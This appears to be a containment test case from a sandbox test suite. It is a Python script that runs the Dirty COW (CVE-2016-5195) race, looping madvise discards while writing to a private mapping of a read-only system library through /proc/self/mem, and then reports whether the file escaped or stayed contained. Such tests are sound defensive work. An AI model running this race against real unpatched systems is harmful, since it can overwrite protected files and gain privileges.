# id: C07
# title: Writes to a private mapping of a shared file stay private
# expect: contained
# guards: root.readonly
# control: none, only a kernel with the fault of CVE-2016-5195 would show it

import ctypes
import mmap
import os
import threading
import time

path = os.__file__
with open(path, "rb") as file:
    before = file.read(16)
    area = mmap.mmap(file.fileno(), 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_WRITE)
address = ctypes.addressof(ctypes.c_char.from_buffer(area))
end = time.monotonic() + 0.5


def discard():
    while time.monotonic() < end:
        area.madvise(mmap.MADV_DONTNEED)


thread = threading.Thread(target=discard)
thread.start()
try:
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        while time.monotonic() < end:
            memory.seek(address)
            memory.write(b"dirty cow")
except OSError:
    ctypes.memmove(address, b"dirty cow", 9)
thread.join()
with open(path, "rb") as file:
    after = file.read(16)
print("ESCAPED: the library was changed" if after != before else "CONTAINED: the file is unchanged")
